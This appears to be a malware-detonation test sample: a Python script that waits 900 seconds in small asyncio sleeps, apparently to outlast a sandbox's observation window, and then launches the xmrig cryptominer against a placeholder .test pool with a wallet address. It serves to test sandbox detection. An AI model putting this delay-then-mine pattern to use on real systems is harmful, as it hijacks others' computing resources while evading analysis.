#!/usr/bin/python3
"""Waits 900 s in an asyncio event loop: 4,500 rounds of `await asyncio.sleep(0.2)`, then mines
(detonate hold-out test sample; harmless, fake wallet, .test pool)."""

import asyncio
import os
import time

ROUNDS = 4500
POOL = "stratum+tcp://pool.loop.test:3333"
WALLET = "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8"  # noqa: E501


async def countdown() -> None:
    for _ in range(ROUNDS):
        await asyncio.sleep(0.2)


print(f"waiting 900 s in {ROUNDS} asyncio.sleep(0.2) rounds", flush=True)
started = time.monotonic()
asyncio.run(countdown())
print(f"waited {time.monotonic() - started:.1f} s; starting the miner", flush=True)
os.execv("/usr/local/bin/xmrig", ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])
